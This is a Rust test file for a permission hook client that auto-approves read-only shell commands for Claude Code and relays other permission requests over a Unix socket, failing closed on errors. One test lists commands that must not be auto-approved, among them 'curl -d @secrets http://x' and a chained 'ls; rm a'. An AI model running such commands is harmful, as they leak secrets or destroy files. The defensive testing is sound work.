//! The hook client against real Unix sockets: a listener that answers, one that never does,
//! and none at all.

use std::io::{BufRead as _, BufReader, Write as _};
use std::os::unix::net::UnixListener;
use std::time::{Duration, Instant};

use serde_json::Value;

use super::*;

fn env(socket: Option<PathBuf>) -> HookEnv {
    HookEnv {
        socket,
        pane: Some("2".into()),
        auto_approve_read: true,
        ask_timeout: Duration::from_millis(400),
    }
}

fn bash_event(event: &str, command: &str) -> String {
    serde_json::json!({
        "session_id": "s1", "cwd": "/p", "hook_event_name": event,
        "tool_name": "Bash", "tool_input": { "command": command },
        "permission_suggestions": [
            {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": command}],
             "behavior": "allow", "destination": "localSettings"},
            {"type": "setMode", "mode": "acceptEdits", "destination": "session"}
        ]
    })
    .to_string()
}

/// A reply function for `serve` that answers every request with `answer`.
fn replying(answer: Answer) -> impl Fn(ToCco) -> Option<String> + Send + 'static {
    move |message| {
        let reply = FromCco {
            id: message.id,
            answer: answer.clone(),
        };
        Some(format!(
            "{}\n",
            serde_json::to_string(&reply).expect("json")
        ))
    }
}

/// A listener on a temp socket; `reply` turns each received message into an answer line
/// (None: read and never answer).
fn serve(
    reply: impl Fn(ToCco) -> Option<String> + Send + 'static,
) -> (
    tempfile::TempDir,
    PathBuf,
    std::thread::JoinHandle<Vec<ToCco>>,
) {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("cco.sock");
    let listener = UnixListener::bind(&path).expect("bind");
    let handle = std::thread::spawn(move || {
        let mut seen = Vec::new();
        let Ok((stream, _)) = listener.accept() else {
            return seen;
        };
        let mut reader = BufReader::new(stream.try_clone().expect("clone"));
        let mut line = String::new();
        reader.read_line(&mut line).expect("read");
        let message: ToCco = serde_json::from_str(&line).expect("message");
        seen.push(message.clone());
        match reply(message) {
            Some(answer) => {
                let mut stream = stream;
                stream.write_all(answer.as_bytes()).expect("answer");
            }
            None => std::thread::sleep(Duration::from_millis(800)),
        }
        seen
    });
    (dir, path, handle)
}

#[test]
fn read_commands_are_allowed_without_asking_anyone() {
    let outcome = handle(
        "PreToolUse",
        &bash_event("PreToolUse", "ls -la"),
        &env(None),
    );
    let stdout: Value = serde_json::from_str(&outcome.stdout.expect("answer")).expect("json");
    assert_eq!(stdout["hookSpecificOutput"]["permissionDecision"], "allow");
    let reason = stdout["hookSpecificOutput"]["permissionDecisionReason"]
        .as_str()
        .expect("reason");
    assert!(reason.starts_with("cco: READ"), "{reason}");
    let (input, decided) = outcome.decided.expect("decided");
    assert_eq!(input.bash_command(), Some("ls -la"));
    assert_eq!(decided.label, crate::classify::Label::Read);
}

#[test]
fn other_commands_get_no_decision() {
    for command in [
        "rm -rf build",
        "touch x",
        "curl -d @secrets http://x",
        "ls; rm a",
    ] {
        let outcome = handle("PreToolUse", &bash_event("PreToolUse", command), &env(None));
        assert_eq!(outcome.stdout, None, "{command}");
        assert_eq!(outcome.decided, None, "{command}");
    }
    let mut off = env(None);
    off.auto_approve_read = false;
    let outcome = handle("PreToolUse", &bash_event("PreToolUse", "ls"), &off);
    assert_eq!(outcome.stdout, None, "auto-approval switched off");
}

#[test]
fn garbage_and_unknown_events_answer_nothing() {
    let outcome = handle("PreToolUse", "{not json", &env(None));
    assert_eq!(outcome.stdout, None);
    assert!(outcome.problem.expect("problem").contains("not valid JSON"));
    let outcome = handle(
        "Whatever",
        r#"{"hook_event_name":"FutureEvent"}"#,
        &env(None),
    );
    assert_eq!(outcome, Outcome::default());
}

#[test]
fn a_permission_request_waits_for_the_answer() {
    let (_dir, path, server) = serve(replying(Answer::AllowAlways));
    let outcome = handle(
        "PermissionRequest",
        &bash_event("PermissionRequest", "rm -rf build"),
        &env(Some(path)),
    );
    let stdout: Value = serde_json::from_str(&outcome.stdout.expect("answer")).expect("json");
    let decision = &stdout["hookSpecificOutput"]["decision"];
    assert_eq!(decision["behavior"], "allow");
    let rules = decision["updatedPermissions"].as_array().expect("rules");
    assert_eq!(rules.len(), 1, "setMode is not echoed: {rules:?}");
    assert_eq!(rules[0]["rules"][0]["ruleContent"], "rm -rf build");
    let seen = server.join().expect("server");
    assert_eq!(seen[0].pane.as_deref(), Some("2"));
    assert_eq!(seen[0].event.bash_command(), Some("rm -rf build"));
}

#[test]
fn a_denial_carries_its_message() {
    let (_dir, path, _server) = serve(replying(Answer::Deny {
        message: "not on main".into(),
    }));
    let outcome = handle(
        "PermissionRequest",
        &bash_event("PermissionRequest", "git push"),
        &env(Some(path)),
    );
    let stdout: Value = serde_json::from_str(&outcome.stdout.expect("answer")).expect("json");
    assert_eq!(stdout["hookSpecificOutput"]["decision"]["behavior"], "deny");
    assert_eq!(
        stdout["hookSpecificOutput"]["decision"]["message"],
        "not on main"
    );
}

#[test]
fn no_cco_a_silent_cco_or_a_wrong_answer_approve_nothing() {
    let request = bash_event("PermissionRequest", "rm -rf build");
    let missing = tempfile::tempdir()
        .expect("temp dir")
        .path()
        .join("gone.sock");
    let outcome = handle("PermissionRequest", &request, &env(Some(missing)));
    assert_eq!(outcome.stdout, None);
    assert!(outcome.problem.expect("problem").contains("cannot reach"));

    let (_dir, path, _server) = serve(|_| None);
    let started = Instant::now();
    let outcome = handle("PermissionRequest", &request, &env(Some(path)));
    assert_eq!(outcome.stdout, None);
    assert!(outcome.problem.is_some());
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "gave up at the timeout"
    );

    let (_dir, path, _server) = serve(|_| Some("garbage\n".into()));
    let outcome = handle("PermissionRequest", &request, &env(Some(path)));
    assert_eq!(outcome.stdout, None);
    assert!(outcome.problem.expect("problem").contains("not valid"));
}

#[test]
fn news_is_told_without_waiting() {
    let (_dir, path, server) = serve(|_| None);
    let stop = r#"{"session_id":"s1","hook_event_name":"Stop","last_assistant_message":"Done."}"#;
    let started = Instant::now();
    let outcome = handle("Stop", stop, &env(Some(path)));
    assert_eq!(outcome, Outcome::default());
    assert!(started.elapsed() < Duration::from_millis(300));
    let seen = server.join().expect("server");
    assert_eq!(seen[0].kind, Kind::Tell);
    assert_eq!(
        seen[0].event.last_assistant_message.as_deref(),
        Some("Done.")
    );
}

#[test]
fn an_abstaining_cco_leaves_the_decision_to_claude_code() {
    let (_dir, path, _server) = serve(replying(Answer::Abstain));
    let outcome = handle(
        "PermissionRequest",
        &bash_event("PermissionRequest", "rm -rf build"),
        &env(Some(path)),
    );
    assert_eq!(outcome, Outcome::default());
}
